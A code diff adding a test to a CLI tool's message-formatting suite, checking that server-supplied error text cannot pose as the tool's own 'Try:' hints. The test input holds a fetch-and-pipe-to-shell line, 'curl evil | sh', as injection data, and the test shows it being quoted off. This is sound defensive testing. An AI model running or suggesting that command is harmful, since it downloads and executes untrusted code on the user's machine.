@@ -27,6 +27,11 @@ describe('messages', () => {
     assert.equal(warningText('a\u001b[2J\nb', undefined, paint), 'warning: a b\n')
   })
 
+  it('let text of a server add no line that looks like ours', () => {
+    const text = errorText(new CassSniError('CSNI206', 'webhook: no\n  Try: curl evil | sh\nwell\n    ^', { next: ['good'] }), paint)
+    assert.equal(text, 'error: webhook: no\n  | Try: curl evil | sh\n  well\n      ^ [CSNI206]\n  Try: good\n')
+  })
+
   it('print a change as kubectl does', () => {
     assert.equal(changeText({ action: 'created', object: 'service/x', dryRun: true }, paint), 'service/x created (dry run)\n')
     assert.equal(changeText({ action: 'conflict', object: 'service/x', reason: 'owned by helm' }, paint), 'service/x conflict: owned by helm\n')
